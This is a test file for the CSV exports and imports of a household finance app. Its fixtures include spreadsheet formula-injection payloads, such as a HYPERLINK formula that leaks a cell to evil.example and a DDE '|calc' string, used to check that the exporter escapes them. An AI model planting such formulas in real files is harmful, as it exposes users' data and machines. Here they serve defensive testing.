import 'fake-indexeddb/auto';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import {
  applyRestore,
  checkCsv,
  exportEntriesCsv,
  exportPaymentsCsv,
  importCsv,
  previewCsv,
  readBackupFile,
  readCsvFile,
} from '../../src/lib/db/backup';
import { serializeBackup } from '../../src/lib/db/backup/backup-format';
import { CSV_COLUMNS } from '../../src/lib/db/backup/csv-format';
import { exportDebtsCsv } from '../../src/lib/db/backup/csv-debts-export';
import { exportFundsCsv } from '../../src/lib/db/backup/csv-funds-export';
import { exportGroupsCsv } from '../../src/lib/db/backup/csv-groups-export';
import { exportSavingsCsv, SAVINGS_CSV_COLUMNS } from '../../src/lib/db/backup/csv-savings-export';
import type { AnyamDatabase } from '../../src/lib/db/database';
import {
  addEntries,
  addPlace,
  addRate,
  addSaving,
  deletePlace,
  deleteSaving,
  listRollups,
  saveSettings,
} from '../../src/lib/db/repo';
import type { Debt, Repayment } from '../../src/lib/domain/debt-model';
import type { Group, GroupPayment } from '../../src/lib/domain/group-model';
import type {
  Entry,
  Fund,
  HouseholdTables,
  Member,
  Payment,
  Place,
  Plan,
  Rate,
  Rollup,
  Saving,
  SetAside,
  Settings,
  Stream,
} from '../../src/lib/domain/model';
import { householdFactory } from '../factories';
import { dropDatabase, expectRollupsConsistent, freshDatabase, seedBasics } from './helpers';

const META = { exportedAt: '2026-11-02T00:00:00.000Z', app: { name: 'Anyam', version: 'test' } };
const opened: AnyamDatabase[] = [];
afterAll(async () => {
  for (const db of opened) await dropDatabase(db);
});
function database(label: string): AnyamDatabase {
  const db = freshDatabase(label);
  opened.push(db);
  return db;
}

const NASTY_NOTES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
  '+62 812 555 0101',
  '-10% discount from the boss',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted by hand",
  "'plain apostrophe",
  'comma, "quotes" and\na line break',
  'Nguyễn đã trả 50.000₫',
  '  spaces around  ',
  // Issue 24: a space before the sign, the DDE pipe, fullwidth signs.
  ' =1+1',
  '|calc!A0',
  '\uFF1D1+1',
  '\u3000\uFF20SUM(A1)',
];

describe('CSV export', () => {
  it('opens formula-like notes as text: the cell starts with an apostrophe', async () => {
    database('csv-export-guard');
    const h = await seedBasics();
    await addEntries(
      NASTY_NOTES.map((note, i) => ({
        streamId: h.usd.id,
        date: `2025-09-${String(i + 1).padStart(2, '0')}`,
        amountMinor: 1_000 + i,
        note,
      })),
    );
    const file = await exportEntriesCsv({ now: new Date('2025-10-01T12:00:00Z') });
    expect(file.filename).toBe('anyam-test-entries-2025-10-01.csv');
    expect(file.text.startsWith('\uFEFFmember,stream,kind,platform,date,amount')).toBe(true);
    expect(file.text.split('\r\n')).toHaveLength(NASTY_NOTES.length + 2);

    const parsed = Papa.parse<string[]>(file.text.slice(1), { skipEmptyLines: true }).data;
    const header = parsed[0]!;
    expect(header).toEqual([...CSV_COLUMNS]);
    const notes = parsed.slice(1).map((row) => row[header.indexOf('note')]);
    expect(notes).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")`,
      "'+62 812 555 0101",
      "'-10% discount from the boss",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      "''=already quoted by hand",
      "'plain apostrophe",
      'comma, "quotes" and\na line break',
      'Nguyễn đã trả 50.000₫',
      '  spaces around  ',
      "' =1+1",
      "'|calc!A0",
      "'\uFF1D1+1",
      "'\u3000\uFF20SUM(A1)",
    ]);
    // Every cell of every row, not only notes: none starts a formula, even past spaces.
    for (const row of parsed) {
      for (const cell of row) {
        expect(cell.replace(/^\s+/, '')).not.toMatch(/^[=+\-@|\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      }
    }
    const usd = parsed.slice(1).map((row) => row.slice(5, 9));
    // 10 USD at the rate in force from 2025-07-01 (16250.5).
    expect(usd[0]).toEqual(['10.00', 'USD', '162505.00', 'IDR']);
  });

  it('leaves the base amount empty, never 0, when no rate is in force', async () => {
    database('csv-export-missing-rate');
    const h = await seedBasics();
    // The first USD rate starts 2025-01-01.
    await addEntries([{ streamId: h.usd.id, date: '2024-12-31', amountMinor: 500 }]);
    const { text } = await exportEntriesCsv();
    const row = Papa.parse<string[]>(text.slice(1)).data[1]!;
    expect(row.slice(4, 9)).toEqual(['2024-12-31', '5.00', 'USD', '', '']);
  });
});

function uniqueStreamNames(tables: HouseholdTables): HouseholdTables {
  // Import finds a stream by member and name: two streams of one member with one name would be
  // ambiguous (the import says so, csv/ambiguous-stream), which is not what this test is about.
  tables.streams.forEach((s, i) => (s.name = `${s.name} ${i + 1}`));
  return tables;
}

type Comparable = Omit<Entry, 'id' | 'createdAt' | 'updatedAt'>;
function comparable(entries: Entry[]): Comparable[] {
  return entries
    .filter((e) => e.deletedAt === null)
    .map(({ id: _id, createdAt: _c, updatedAt: _u, ...rest }) => rest)
    .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
}
function withoutKeys(rollups: Rollup[]) {
  return [...rollups].sort((a, b) => a.key.localeCompare(b.key));
}

describe('CSV export → import round trip', () => {
  it('reproduces the entries and the rollups', async () => {
    const tables = uniqueStreamNames(
      householdFactory.build({
        seed: 5,
        months: 6,
        entriesPerMonth: 60,
        currencies: ['PHP', 'USD', 'IDR'],
      }),
    );
    tables.entries.forEach((e, i) => {
      if (i < NASTY_NOTES.length) e.note = NASTY_NOTES[i]!;
      if (i % 13 === 5) e.deletedAt = e.updatedAt;
    });

    const source = database('csv-roundtrip-source');
    await applyRestore(await readBackupFile(serializeBackup(tables, META)), 'replace');
    const exported = await exportEntriesCsv({ chunkSize: 50 });
    const sourceEntries = await source.entries.toArray();
    const sourceRollups = await listRollups();

    // The same household without its entries, then the CSV imported into it.
    const target = database('csv-roundtrip-target');
    await applyRestore(
      await readBackupFile(serializeBackup({ ...tables, entries: [] }, META)),
      'replace',
    );
    const text = await readCsvFile(new Blob([exported.text]));
    const preview = previewCsv(text);
    const report = await checkCsv(text, {
      mapping: preview.guessedMapping,
      dateFormat: 'YYYY-MM-DD',
      decimalSeparator: '.',
    });
    expect(report.errors).toEqual([]);
    expect(report.readyRows).toBe(exported.rows);
    await importCsv(report);

    expect(comparable(await target.entries.toArray())).toEqual(comparable(sourceEntries));
    expect(withoutKeys(await listRollups())).toEqual(withoutKeys(sourceRollups));
    await expectRollupsConsistent(target);
  });
});

describe('CSV export of payments', () => {
  it('lists every live payment with its plan, guarded against formulas, in base currency when a rate is known', async () => {
    database('csv-payments');
    const tables = householdFactory.build({ seed: 5, months: 3, entriesPerMonth: 5 });
    const plan = tables.plans[0]!;
    const first = tables.payments.find((p) => p.planId === plan.id)!;
    first.note = '=HYPERLINK("http://evil.example")';
    tables.payments[1]!.deletedAt = tables.payments[1]!.updatedAt;
    await applyRestore(await readBackupFile(serializeBackup(tables, META)), 'replace');
    const file = await exportPaymentsCsv({ now: new Date('2026-11-02T08:00:00Z') });
    expect(file.filename).toMatch(/-payments-2026-11-02\.csv$/);
    expect(file.text.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(file.text.slice(1), { header: true });
    const live = tables.payments.filter((p) => p.deletedAt === null);
    expect(file.rows).toBe(live.length);
    expect(parsed.data.filter((r) => r.plan !== undefined && r.plan !== '')).toHaveLength(
      live.length,
    );
    const row = parsed.data.find((r) => r.note?.includes('HYPERLINK'))!;
    expect(row.note).toBe(`'${first.note}`);
    expect(row).toMatchObject({ plan: plan.name, due_on: first.dueOn, currency: first.currency });
    expect(row.base_currency).toBe(tables.settings[0]!.baseCurrency);
  });
});

describe('CSV export of savings', () => {
  it('lists the live balances of live places, oldest first, in base currency only where a rate is in force', async () => {
    database('csv-savings');
    await saveSettings({ householdName: 'Rumah Sari', baseCurrency: 'IDR' });
    await addRate({ currency: 'USD', date: '2025-07-01', value: '16250.5' });
    const bank = await addPlace({ name: 'BCA', kind: 'bank', currency: 'IDR' });
    const wise = await addPlace({ name: 'Wise', kind: 'ewallet', currency: 'USD' });
    const gone = await addPlace({ name: 'Old tin', kind: 'cash', currency: 'IDR' });
    // Stored out of date order: the export sorts by date.
    await addSaving({ placeId: wise.id, date: '2025-08-01', amountMinor: 1_000, note: '=1+1' });
    await addSaving({ placeId: bank.id, date: '2025-03-01', amountMinor: 250_000_00 });
    // Before the first USD rate: no base amount, and no base currency either.
    await addSaving({ placeId: wise.id, date: '2025-06-30', amountMinor: 500 });
    const dropped = await addSaving({ placeId: bank.id, date: '2025-05-01', amountMinor: 1 });
    await deleteSaving(dropped.id);
    await addSaving({ placeId: gone.id, date: '2025-04-01', amountMinor: 2 });
    await deletePlace(gone.id);

    const file = await exportSavingsCsv(new Date('2026-11-24T02:00:00Z'));
    expect(file.filename).toBe('anyam-rumah-sari-savings-2026-11-24.csv');
    expect(file.mimeType).toBe('text/csv;charset=utf-8');
    expect(file.text.startsWith('\uFEFF')).toBe(true);
    expect(file.rows).toBe(3);
    expect(file.text.slice(1).split('\r\n')).toEqual([
      SAVINGS_CSV_COLUMNS.join(','),
      'BCA,bank,2025-03-01,250000.00,IDR,250000.00,IDR,',
      'Wise,ewallet,2025-06-30,5.00,USD,,,',
      "Wise,ewallet,2025-08-01,10.00,USD,162505.00,IDR,'=1+1",
      '',
    ]);
    // Names as the person reads them: the place's and the household's, in the file name too.
    const read = (stored: string) => (stored === 'Rumah Sari' ? 'Dewi' : `${stored}!`);
    const named = await exportSavingsCsv(new Date('2026-11-24T02:00:00Z'), read);
    expect(named.filename).toBe('anyam-dewi-savings-2026-11-24.csv');
    expect(named.text.split('\r\n')[1]).toBe('BCA!,bank,2025-03-01,250000.00,IDR,250000.00,IDR,');
  });

  it('leaves every base cell empty without a base currency, even for a balance in its own currency', async () => {
    database('csv-savings-no-settings');
    const place = await addPlace({ name: '{{sample:cash}}', kind: 'cash', currency: 'IDR' });
    await addSaving({ placeId: place.id, date: '2025-03-01', amountMinor: 100 });
    const file = await exportSavingsCsv(new Date('2026-11-24T02:00:00Z'));
    const rows = Papa.parse<string[]>(file.text.slice(1), { skipEmptyLines: true }).data;
    expect(rows).toEqual([
      [...SAVINGS_CSV_COLUMNS],
      ['{{sample:cash}}', 'cash', '2025-03-01', '1.00', 'IDR', '', '', ''],
    ]);
    // No settings row, so no household name either.
    expect(file.filename).toBe('anyam-household-savings-2026-11-24.csv');
  });
});

/** A stored record as the exports read it: ids chosen so that id order is not the order asked for. */
const STAMP = '2025-01-01T00:00:00.000Z';
function raw<T>(id: string, fields: Record<string, unknown>, deletedAt: string | null = null): T {
  return {
    id,
    createdAt: STAMP,
    updatedAt: STAMP,
    deletedAt,
    isSample: false,
    ...fields,
  } as T;
}
const SETTINGS = raw<Settings>('settings', {
  householdName: 'Rumah Sari',
  baseCurrency: 'IDR',
  locale: 'en',
  theme: 'system',
  lastBackupAt: null,
  backupReminderSnoozedUntil: null,
});
const USD_RATE = raw<Rate>('rate', { currency: 'USD', date: '2025-07-01', value: '16000' });
const NOW = new Date('2026-11-24T02:00:00Z');
const linesOf = (text: string) =>
  text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .slice(1, -1);

describe('CSV exports: what each row says, and in which order', () => {
  it('without a settings row, names every file "household" and leaves every base cell empty', async () => {
    const db = database('csv-no-settings');
    // A stored rate is no base currency: still no base amount.
    await db.rates.put(USD_RATE);
    await db.places.put(raw<Place>('pl', { name: 'Wise', kind: 'ewallet', currency: 'USD' }));
    await db.savings.put(
      raw<Saving>('sv', {
        placeId: 'pl',
        date: '2025-08-01',
        amountMinor: 500,
        currency: 'USD',
        note: '',
      }),
    );
    await db.plans.put(raw<Plan>('plan', { name: 'Rent', category: 'housing' }));
    await db.payments.put(
      raw<Payment>('pay', {
        planId: 'plan',
        dueOn: '2025-08-01',
        date: '2025-08-01',
        amountMinor: 500,
        currency: 'USD',
        note: '',
      }),
    );
    await db.debts.put(debt('debt', '2025-08-01', 'USD'));
    await db.funds.put(fund('fund', 'Lebaran', '2027-03-10'));
    await db.groups.put(group('group', null));
    await db.groupPayments.put(groupRow('row', 'group', '2025-08-01', 'USD'));
    await db.entries.put(entry('e1', '2025-08-01', 'USD'));
    const files = [
      await exportEntriesCsv({ now: NOW }),
      await exportPaymentsCsv({ now: NOW }),
      await exportDebtsCsv(NOW),
      await exportFundsCsv(NOW),
      await exportGroupsCsv(NOW),
      await exportSavingsCsv(NOW),
    ];
    expect(files.map((f) => f.filename)).toEqual([
      'anyam-household-entries-2026-11-24.csv',
      'anyam-household-payments-2026-11-24.csv',
      'anyam-household-debts-2026-11-24.csv',
      'anyam-household-funds-2026-11-24.csv',
      'anyam-household-groups-2026-11-24.csv',
      'anyam-household-savings-2026-11-24.csv',
    ]);
    expect(linesOf(files[0]!.text)[0]).toContain(',10.00,USD,,,');
    expect(linesOf(files[1]!.text)).toEqual(['Rent,housing,2025-08-01,2025-08-01,5.00,USD,,,']);
    expect(linesOf(files[2]!.text)[0]).toMatch(/,,,$/);
    expect(linesOf(files[4]!.text)).toEqual([
      'Arisan,10,,contribution,1,2025-08-01,2025-08-01,5.00,USD,,,row',
    ]);
    expect(linesOf(files[5]!.text)).toEqual(['Wise,ewallet,2025-08-01,5.00,USD,,,']);
  });

  it('names each entry’s member, stream, kind, platform and arrival; what is gone leaves its cells empty', async () => {
    const db = database('csv-entry-cells');
    await db.settings.put(SETTINGS);
    await db.rates.put(USD_RATE);
    await db.members.put(raw<Member>('m1', { name: 'Sari' }));
    await db.streams.put(
      raw<Stream>('s1', { memberId: 'm1', name: 'Tasks', kind: 'microtask', platform: 'Upwork' }),
    );
    await db.places.put(raw<Place>('bank', { name: 'Bank BRI', kind: 'bank', currency: 'IDR' }));
    await db.entries.bulkPut([
      entry('e1', '2025-08-01', 'USD', {
        arrival: {
          on: '2025-08-03',
          placeId: 'bank',
          landedMinor: 155_000_00,
          landedCurrency: 'IDR',
          feeMinor: 250,
          via: 'PayPal',
        },
      }),
      // Landed where the household keeps no place any more, amount and fee not said.
      entry('e2', '2025-08-02', 'USD', {
        arrival: {
          on: '2025-08-04',
          placeId: 'gone',
          landedMinor: null,
          landedCurrency: null,
          feeMinor: null,
          via: '',
        },
      }),
      // A landed amount without its currency is not written as an amount.
      entry('e3', '2025-08-03', 'USD', {
        arrival: {
          on: '2025-08-05',
          placeId: null,
          landedMinor: 100,
          landedCurrency: null,
          feeMinor: 0,
          via: 'Wise',
        },
      }),
      entry('e4', '2025-08-04', 'USD', { memberId: 'nobody', streamId: 'nothing' }),
    ]);
    const progress: unknown[] = [];
    const file = await exportEntriesCsv({
      now: NOW,
      chunkSize: 3,
      onProgress: (p) => progress.push(p),
    });
    expect(file.filename).toBe('anyam-rumah-sari-entries-2026-11-24.csv');
    expect(linesOf(file.text)).toEqual([
      'Sari,Tasks,microtask,Upwork,2025-08-01,10.00,USD,160000.00,IDR,received,0,0,,2025-08-03,155000.00,IDR,Bank BRI,2.50,PayPal',
      'Sari,Tasks,microtask,Upwork,2025-08-02,10.00,USD,160000.00,IDR,received,0,0,,2025-08-04,,,,,',
      'Sari,Tasks,microtask,Upwork,2025-08-03,10.00,USD,160000.00,IDR,received,0,0,,2025-08-05,,,,0.00,Wise',
      ',,,,2025-08-04,10.00,USD,160000.00,IDR,received,0,0,,,,,,,',
    ]);
    expect(progress).toEqual([
      { phase: 'reading', done: 0, total: 4 },
      { phase: 'reading', done: 3, total: 4 },
      { phase: 'reading', done: 4, total: 4 },
    ]);
  });

  it('lists live payments by date, then by id, with an empty plan for a plan that is gone', async () => {
    const db = database('csv-payment-order');
    await db.settings.put(SETTINGS);
    await db.rates.put(USD_RATE);
    await db.plans.put(raw<Plan>('plan', { name: 'School', category: 'education' }));
    const pay = (id: string, date: string, planId = 'plan', currency = 'IDR') =>
      raw<Payment>(id, { planId, dueOn: date, date, amountMinor: 100, currency, note: id });
    await db.payments.bulkPut([
      pay('a', '2025-09-01'),
      pay('c', '2025-08-01', 'gone'),
      pay('b', '2025-08-01', 'plan', 'USD'),
      pay('d', '2025-06-01', 'plan', 'USD'),
      pay('f', '2025-12-01'),
      { ...pay('e', '2025-01-01'), deletedAt: STAMP },
    ]);
    const file = await exportPaymentsCsv({ now: NOW, names: (s) => s.toUpperCase() });
    expect(file.filename).toBe('anyam-rumah-sari-payments-2026-11-24.csv');
    expect(file.rows).toBe(5);
    expect(linesOf(file.text)).toEqual([
      'SCHOOL,education,2025-06-01,2025-06-01,1.00,USD,,,d',
      'SCHOOL,education,2025-08-01,2025-08-01,1.00,USD,16000.00,IDR,b',
      ',,2025-08-01,2025-08-01,1.00,IDR,1.00,IDR,c',
      'SCHOOL,education,2025-09-01,2025-09-01,1.00,IDR,1.00,IDR,a',
      'SCHOOL,education,2025-12-01,2025-12-01,1.00,IDR,1.00,IDR,f',
    ]);
  });

  it('lists debts by date with their state, then each debt’s repayments', async () => {
    const db = database('csv-debt-order');
    await db.settings.put(SETTINGS);
    await db.debts.bulkPut([
      debt('a', '2025-09-01', 'IDR'),
      debt('b', '2025-07-01', 'IDR'),
      debt('c', '2025-08-01', 'IDR'),
    ]);
    await db.repayments.put(
      raw<Repayment>('r', {
        debtId: 'b',
        dueOn: null,
        date: '2025-07-15',
        amountMinor: 1_000,
        currency: 'IDR',
        note: '',
      }),
    );
    const file = await exportDebtsCsv(NOW, (s) => `${s}!`);
    expect(file.filename).toBe('anyam-rumah-sari-debts-2026-11-24.csv');
    expect(linesOf(file.text)).toEqual([
      'debt,b!,person,we-owe,2025-07-01,10.00,IDR,0.00,paid-off,,,whenever,,,10.00,IDR,',
      'debt,c!,person,we-owe,2025-08-01,10.00,IDR,10.00,open,,,whenever,,,10.00,IDR,',
      'debt,a!,person,we-owe,2025-09-01,10.00,IDR,10.00,open,,,whenever,,,10.00,IDR,',
      'repayment,b!,person,we-owe,2025-07-15,10.00,IDR,,,,,,,,10.00,IDR,',
    ]);
  });

  it('lists live funds by due date, each with its live set-asides by date', async () => {
    const db = database('csv-fund-order');
    await db.settings.put(SETTINGS);
    await db.funds.bulkPut([
      fund('a', 'Later', '2027-09-01'),
      fund('b', 'Sooner', '2027-03-01'),
      fund('c', 'Gone', '2027-01-01', STAMP),
      fund('d', 'Middle', '2027-06-01'),
    ]);
    const setAside = (id: string, fundId: string, date: string, deletedAt: string | null = null) =>
      raw<SetAside>(
        id,
        { fundId, entryId: id === 'x' ? 'entry-1' : null, date, amountMinor: 100, currency: 'IDR' },
        deletedAt,
      );
    await db.setAsides.bulkPut([
      setAside('x', 'b', '2026-05-01'),
      setAside('y', 'b', '2026-02-01'),
      setAside('z', 'b', '2026-03-01', STAMP),
      setAside('w', 'a', '2026-04-01'),
      setAside('u', 'b', '2026-04-01'),
      setAside('t', 'b', '2026-06-01'),
      setAside('v', 'c', '2026-04-01'),
    ]);
    const file = await exportFundsCsv(NOW, (s) => s.toLowerCase());
    expect(file.filename).toBe('anyam-rumah-sari-funds-2026-11-24.csv');
    expect(file.rows).toBe(6);
    expect(linesOf(file.text)).toEqual([
      'sooner,10.00,IDR,2027-03-01,2026-02-01,1.00,IDR,',
      'sooner,10.00,IDR,2027-03-01,2026-04-01,1.00,IDR,',
      'sooner,10.00,IDR,2027-03-01,2026-05-01,1.00,IDR,entry-1',
      'sooner,10.00,IDR,2027-03-01,2026-06-01,1.00,IDR,',
      'middle,10.00,IDR,2027-06-01,,,,',
      'later,10.00,IDR,2027-09-01,2026-04-01,1.00,IDR,',
    ]);
  });

  it('lists debts of one date and funds of one due date by id, however they are stored', async () => {
    const db = database('csv-ties');
    await db.settings.put(SETTINGS);
    await db.debts.bulkPut(['tie-c', 'tie-a', 'tie-b'].map((id) => debt(id, '2025-07-01', 'IDR')));
    await db.funds.bulkPut(['tie-c', 'tie-a', 'tie-b'].map((id) => fund(id, id, '2027-03-01')));
    const column = (text: string, n: number) => linesOf(text).map((line) => line.split(',')[n]);
    expect(column((await exportDebtsCsv(NOW)).text, 1)).toEqual(['tie-a', 'tie-b', 'tie-c']);
    expect(column((await exportFundsCsv(NOW)).text, 0)).toEqual(['tie-a', 'tie-b', 'tie-c']);
    // A fund's set-asides of one date, by id too (each names itself as its entry here).
    await db.funds.clear();
    await db.funds.put(fund('f', 'Fund', '2027-03-01'));
    await db.setAsides.bulkPut(
      ['sa-c', 'sa-a', 'sa-b'].map((id) =>
        raw<SetAside>(id, {
          fundId: 'f',
          entryId: id,
          date: '2026-05-01',
          amountMinor: 100,
          currency: 'IDR',
        }),
      ),
    );
    expect(column((await exportFundsCsv(NOW)).text, 7)).toEqual(['sa-a', 'sa-b', 'sa-c']);
  });

  it('lists a group’s live rounds by due date, leaving out deleted groups, their rows and rows of no group', async () => {
    const db = database('csv-group-order');
    await db.settings.put(SETTINGS);
    await db.rates.put(USD_RATE);
    await db.groups.bulkPut([group('g', 3), group('gone', 3, STAMP)]);
    await db.groupPayments.bulkPut([
      groupRow('a', 'g', '2025-09-01'),
      groupRow('b', 'g', '2025-06-01', 'USD'),
      groupRow('c', 'g', '2025-08-01', 'USD'),
      groupRow('d', 'g', '2025-07-01', 'IDR', STAMP),
      groupRow('e', 'gone', '2025-07-01'),
      groupRow('f', 'none', '2025-07-01'),
    ]);
    const file = await exportGroupsCsv(NOW);
    expect(file.filename).toBe('anyam-rumah-sari-groups-2026-11-24.csv');
    expect(file.rows).toBe(3);
    expect(linesOf(file.text)).toEqual([
      'Arisan,10,3,contribution,1,2025-06-01,2025-06-01,5.00,USD,,,b',
      'Arisan,10,3,contribution,1,2025-08-01,2025-08-01,5.00,USD,80000.00,IDR,c',
      'Arisan,10,3,contribution,1,2025-09-01,2025-09-01,5.00,IDR,5.00,IDR,a',
    ]);
  });
});

function entry(id: string, date: string, currency: string, more: Partial<Entry> = {}): Entry {
  return raw<Entry>(id, {
    streamId: 's1',
    memberId: 'm1',
    date,
    amountMinor: currency === 'IDR' ? 500 : 1_000,
    currency,
    status: 'received',
    paidMinutes: 0,
    unpaidMinutes: 0,
    note: '',
    ...more,
  });
}
function debt(id: string, date: string, currency: string): Debt {
  return raw<Debt>(id, {
    counterparty: id,
    kind: 'person',
    direction: 'we-owe',
    amountMinor: 1_000,
    currency,
    date,
    schedule: null,
    forgivenOn: null,
    note: '',
  });
}
function fund(id: string, name: string, dueOn: string, deletedAt: string | null = null): Fund {
  return raw<Fund>(id, { name, targetMinor: 1_000, currency: 'IDR', dueOn, note: '' }, deletedAt);
}
function group(id: string, myTurn: number | null, deletedAt: string | null = null): Group {
  return raw<Group>(
    id,
    {
      name: 'Arisan',
      members: 10,
      contributionMinor: 500,
      currency: 'IDR',
      cadence: 'monthly',
      startsOn: '2025-06-01',
      turnRule: 'fixed',
      myTurn,
      bidMinor: 0,
      note: '',
    },
    deletedAt,
  );
}
function groupRow(
  id: string,
  groupId: string,
  dueOn: string,
  currency = 'IDR',
  deletedAt: string | null = null,
): GroupPayment {
  return raw<GroupPayment>(
    id,
    {
      groupId,
      kind: 'contribution',
      round: 1,
      dueOn,
      date: dueOn,
      amountMinor: 500,
      currency,
      note: id,
    },
    deletedAt,
  );
}

describe('CSV export of savings: date order and deleted places, whatever is stored (issue 28)', () => {
  it('lists balances by date under ids in another order, and never one of a deleted place', async () => {
    const db = database('csv-savings-raw');
    await db.settings.put(SETTINGS);
    await db.places.bulkPut([
      raw<Place>('pl-live', { name: 'BCA', kind: 'bank', currency: 'IDR' }),
      raw<Place>('pl-gone', { name: 'Old tin', kind: 'cash', currency: 'IDR' }, STAMP),
    ]);
    const saving = (id: string, placeId: string, date: string) =>
      raw<Saving>(id, { placeId, date, amountMinor: 100, currency: 'IDR', note: '' });
    await db.savings.bulkPut([
      saving('a', 'pl-live', '2025-09-01'),
      saving('b', 'pl-live', '2025-03-01'),
      saving('c', 'pl-live', '2025-06-01'),
      // A live balance of a deleted place (only a hand-made or older file could hold one).
      saving('d', 'pl-gone', '2025-04-01'),
    ]);
    const file = await exportSavingsCsv(NOW);
    expect(linesOf(file.text).map((line) => line.split(',')[2])).toEqual([
      '2025-03-01',
      '2025-06-01',
      '2025-09-01',
    ]);
    expect(file.rows).toBe(3);
  });
});
